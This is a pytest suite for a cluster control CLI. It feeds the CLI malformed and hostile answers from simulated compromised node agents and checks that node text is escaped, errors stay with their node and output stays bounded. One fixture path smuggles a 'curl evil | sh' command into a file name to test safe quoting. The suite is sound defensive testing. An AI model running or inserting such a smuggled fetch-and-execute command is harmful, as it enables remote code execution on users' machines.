"""A node with a replaced agent can answer anything: the other nodes are shown, and no terminal is harmed."""

from __future__ import annotations

import copy
import itertools
import json
from collections.abc import Iterator
from typing import Any

import pytest

from contract.security.liars import EVIL, JOB, Liars, is_harmless, lines, process, status

JUNK: list[Any] = [None, {}, EVIL, -1, 1e999, 10**30, [[]], "../../x"]
ENDED = {"event": "ended", "t": 1.7e9, "state": "failed", "cause": {"message": EVIL, "tail": [EVIL], "node": 1}}
STREAMS = {"run": "0001", "streams": [{"role": "trainer", "rank": 1, "at": 0}]}
ROW = [1.7e9, 0, "a line", 7]
RECORD = {"workspace": "w", "content": "c" * 40, "files": 1, "bytes": 2, "t": 1.7e9}
RUN = {"run": "0001", "state": "running", "started": 1.7e9, "members": [0, 1], "left_out": [], "name": "lr-0.1"}
LISTED = {
    **{**RUN, "seconds": 7.5, "arguments": ["--token", "x"], "env": {"A": "b"}},
    "keep_best": {"name": "acc", "direction": "max"},
    "trainers": [{"loss": 0.5, "metrics": {"acc": [0.5, 0.25, 0.75]}}],
}
EVIL_RUN = {
    **{**LISTED, "arguments": [EVIL, "--" + EVIL], "env": {EVIL: EVIL}},
    "trainers": [{"loss": 1e999, "metrics": {EVIL: [1e999, -1e308, 1e308]}}, {"metrics": {EVIL: [-1e999, None, None]}}],
}
STOPPED = {"job": JOB, "dir": "/d", "run": "0001", "was": "running", "killed": 0, "survivors": 0, **RUN}
STOPPED |= {"leftovers": 0, "left": [], "ports_busy": [], "holders": []}

CLOCK = [{"now": 1.7e9}] * 3
AT = {"v": 1, "t": 1.7e9, "node": 1, "seq": 1}
TRAINER = {"role": "trainer", "rank": 1, "attempt": 1}
EVENTS = [
    {**AT, "event": "spawned", **TRAINER},
    {**AT, "event": "exited", "exit_code": 1, "stopping": False, "message": "m", "tail": ["t"], **TRAINER},
    {**AT, "event": "phase", "phase": "stopping", "cause": {"kind": "exit", "message": "m", "node": 1, **TRAINER}},
]
OUTPUTS = [{**TRAINER, "ours": [], "lines": [[1.7e9, "ValueError: x"]]}]


CONSTANT: dict[str, Any] = {
    "jobs": {"jobs": [{"job": JOB, "dir": "/d", "record": RECORD, "runs": [LISTED]}]},
    "stop": STOPPED,
    "find_named": {"job": None, "runs": [{"job": JOB, "run": "0001", "t": 1.7e9}]},
}


def answer(node: int, request: dict[str, Any], **more: Any) -> Iterator[bytes]:
    """Return the answer of an honest agent of `node`, with `more` in its status."""
    operation = request["op"]
    if operation == "status":
        return lines({"done": status(node, **more)})
    if operation in CONSTANT:
        return lines({"done": CONSTANT[operation]})
    if operation == "diagnose":
        report = {
            "events": EVENTS,
            "outputs": OUTPUTS,
            "seen": 1.7e9,
            "booted": None,
            "free_bytes": 1,
            "python": "3.11",
        }
        return lines(*CLOCK, {"done": {**status(node), **report}})
    if operation in ("logs", "follow"):
        streams = {"run": "0001", "streams": [{"role": "trainer", "rank": node, "at": 0}]}
        done = {"node": status(node, state="stopped"), "at": 0}
        return lines(streams, {"lines": [[1.7e9, 0, f"line of {node}", 7]]}, {"done": done})
    return lines({"error": {"kind": "node", "message": f"no {operation}", "hint": None}})


def honest(node: int) -> Any:
    return lambda request: answer(node, request)


def changed(value: Any, junk: Any) -> Iterator[Any]:
    """Yield the value with each of its parts replaced in turn."""
    yield junk
    keys = value if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
    for key in keys:
        for part in changed(value[key], junk):
            new = copy.copy(value)
            new[key] = part
            yield new


@pytest.mark.slow
def test_malformed_answers_are_reported_by_node_and_hide_no_other_node(liars: Liars) -> None:
    """Replace every part of every answer by many things."""
    liars.answers["node0"] = honest(0)
    attempts = 0
    for operation in ("status", "jobs", "stop", "diagnose", "find_named"):
        other = {"stop": ("stop", JOB), "diagnose": ("why",), "find_named": ("status", "lr-0.1")}
        command = other.get(operation, (operation,))
        *before, last = answer(1, {"op": operation})
        whole = json.loads(last)
        for index, junk in enumerate(JUNK):
            for wrong in itertools.islice(changed(whole, junk), index % 3, None, 3):
                reply = b"".join([*before, json.dumps(wrong).encode() + b"\n"])
                liars.answers["node1"] = lambda request, reply=reply, only=operation: (
                    iter([reply]) if request["op"] == only else answer(1, request)
                )
                code, out, err = liars.run(*command)
                assert "Traceback" not in err, (reply, err)
                assert code in (0, 2, 3, 4), (reply, code, err)
                assert (JOB if code == 0 or operation != "stop" else "node1") in out + err, (reply, out, err)
                assert is_harmless(out + err), reply
                attempts += 1
    assert attempts > 200


def test_malformed_logs_are_an_error_of_their_node_only(liars: Liars) -> None:
    liars.answers["node0"] = honest(0)
    commands = itertools.cycle([("logs",), ("logs", "--fold"), ("logs", "-f"), ("logs", "--json"), ("logs", "-f")])
    for junk in JUNK[::2]:
        for wrong in (
            *({**STREAMS, "streams": value} for value in changed(STREAMS["streams"], junk)),
            *({"lines": value} for value in changed([ROW], junk)),
            {"events": [{"event": "ended", "t": junk}], "at": 3},
            {"events": [junk], "at": 3},
            {"held": junk},
        ):
            first = wrong if "streams" in wrong else STREAMS
            liars.answers["node1"] = lambda request, says=(first, wrong, {"done": junk}): (
                answer(1, request) if request["op"] == "status" else lines(*says)
            )
            code, out, err = liars.run(*next(commands))
            assert "Traceback" not in err, (wrong, err)
            assert "line of 0" in out
            assert code in (0, 1, 3), (wrong, err)
            assert is_harmless(out + err), wrong


@pytest.mark.parametrize("options", [(), ("--json",), ("--verbose",)])
def test_no_text_of_a_node_reaches_a_terminal_unescaped(liars: Liars, options: tuple[str, ...]) -> None:
    reported = status(
        1, state="failed", ended=ENDED, mode=EVIL, dir=EVIL, last_event={"event": EVIL}, left_out=[], phase=EVIL
    )
    reported["processes"] = [process("pserver", 1, state=EVIL, tables=[{"name": EVIL, "rows": 1, "bytes": 1}])]
    reported["members"] = [1, 0]  # so that it is the lead
    failing = {"error": {"kind": "node", "message": EVIL, "hint": EVIL, "details": {"more": EVIL}}}
    row = [1.7e9, 0, f"{EVIL}\r{EVIL}", 7]
    job = {"job": JOB, "dir": EVIL, "record": {**RECORD, "workspace": EVIL, "content": EVIL}, "runs": [EVIL_RUN]}
    says = {
        "status": lambda: lines({"done": reported}),
        "jobs": lambda: lines({"done": {"jobs": [job]}}),
        "logs": lambda: lines(STREAMS, {"lines": [row]}, failing),
        "follow": lambda: lines(STREAMS, {"lines": [row]}, failing),
    }
    liars.answers["node0"] = liars.answers["node1"] = lambda request: says.get(request["op"], lambda: lines(failing))()
    commands = [
        ("status",),
        ("jobs",),
        ("logs",),
        ("logs", "-f"),
        ("logs", "--fold"),
        ("stop",),
        ("check",),
        ("collect",),
    ]
    commands += [
        ("why",),
        ("prune", "--keep", "1"),
        ("exec", "--", "x"),
        ("start", "--job_workspace", JOB),
        ("start", "--resume"),
    ]
    for command in commands:
        code, out, err = liars.run(*command[:1], *options, *command[1:])
        assert is_harmless(out + err), (command, out, err)
        assert code in (0, 1, 2, 3, 4), command
        if options == ("--json",):
            assert out.isascii(), command


@pytest.mark.parametrize("options", [(), ("--json",)])
def test_the_reason_of_a_dropped_cut_is_shown_harmlessly(liars: Liars, options: tuple[str, ...]) -> None:
    cut = {"t": 1.7e9, "message": f"no model: {EVIL}", "trainers": [0], "saves": [EVIL]}
    liars.answers["node0"] = lambda request: answer(0, request, cut_dropped=cut)
    liars.answers["node1"] = honest(1)
    code, out, err = liars.run("status", *options)
    assert (code, is_harmless(out + err)) == (0, True)
    if options:
        assert json.loads(out)["cut_dropped"] == {key: cut[key] for key in ("t", "message", "trainers")}
    else:
        assert "  no model: " in out
        assert "1 trainer has been waiting for trainer0 for 4 s" in out


def test_garbage_in_place_of_an_answer_is_quoted_harmlessly(liars: Liars) -> None:
    rubbish = [
        EVIL.encode(errors="surrogatepass"),
        b"[]",
        b"7",
        b"null",
        b"",
        b"[" * 100_000,
        b'{"a":' * 900 + b"1" + b"}" * 900,
    ]
    rubbish += [b'{"error": 7}', b'{"error": {"kind": []}}', b'{"error": {"details": {"nodes": [5]}}}', b'{"done": 7}']
    liars.answers["node0"] = honest(0)
    for line in rubbish:
        liars.answers["node1"] = lambda request, line=line: iter([line + b"\n"])
        code, out, err = liars.run("status")
        assert code == 3
        assert "node1" in err
        assert "trainer" in out
        assert is_harmless(out + err)


def test_a_bug_in_the_program_does_not_print_text_of_a_node_unescaped(
    liars: Liars, monkeypatch: pytest.MonkeyPatch
) -> None:
    def mistaken(*_: object) -> None:
        raise RuntimeError(EVIL)

    liars.answers["node0"] = liars.answers["node1"] = honest(0)
    monkeypatch.setattr("clusterctl.cli.commands.status.headline", mistaken)
    code, out, err = liars.run("status")
    assert code == 1
    assert "RuntimeError" in err
    assert is_harmless(out + err)


def test_an_error_of_a_node_is_at_most_a_page_long(liars: Liars) -> None:
    liars.answers["node0"] = liars.answers["node1"] = lambda request: lines(
        {"error": {"kind": "x", "message": "m" * 10**6}}
    )
    code, _, err = liars.run("status")
    assert code == 3
    assert len(err) < 20_000


def failed_run(*events: dict[str, Any], **more: Any) -> Any:
    """An agent that reports these events of a failed run."""
    facts = {"events": events, "outputs": [], "seen": 1.7e9, "booted": None, "free_bytes": 1, "python": "3.11"}
    return lambda request: (
        lines(*CLOCK, {"done": {**status(1, state="failed"), **facts, **more}})
        if request["op"] == "diagnose"
        else answer(1, request, ended=ENDED, state="failed")
    )


@pytest.mark.parametrize("half", [{"role": "trainer"}, {"rank": 1}, {"role": EVIL, "rank": None}])
def test_a_cause_with_an_incomplete_process_does_not_crash_why(liars: Liars, half: dict[str, Any]) -> None:
    cause = {"kind": "node", "message": "m", "node": 1, **half}
    ended = {**AT, "event": "ended", "state": "failed", "cause": cause, "not_heard_of": []}
    liars.answers["node0"] = failed_run({**EVENTS[2], "cause": cause}, ended)  # it is the lead
    liars.answers["node1"] = failed_run(*EVENTS)
    code, out, err = liars.run("why")
    assert (code, "Traceback" in err) == (0, False), err
    assert "first cause: trainer1@" in out


def test_suggested_commands_with_paths_can_be_pasted_safely(liars: Liars) -> None:
    last = "FileNotFoundError: [Errno 2] No such file or directory: '/x; curl evil | sh #'"
    outputs = [{**TRAINER, "ours": [], "lines": [[1.7e9, "Traceback (most recent call last):"], [1.7e9, last]]}]
    liars.answers["node0"] = liars.answers["node1"] = failed_run(*EVENTS, outputs=outputs)
    _, out, _ = liars.run("why")
    assert "ls -ld '/x; curl evil | sh #'\n" in out


def test_an_answer_to_why_with_overlong_lines_is_refused(liars: Liars) -> None:
    outputs = [{**TRAINER, "ours": [], "lines": [[1.7e9, "x" * (1 << 17)]]}]
    liars.answers["node0"] = failed_run(*EVENTS)
    liars.answers["node1"] = failed_run(*EVENTS, outputs=outputs)
    code, out, err = liars.run("why")
    assert (code, "node1: its answer is malformed" in err) == (3, True)
    assert "first cause: trainer1@" in out
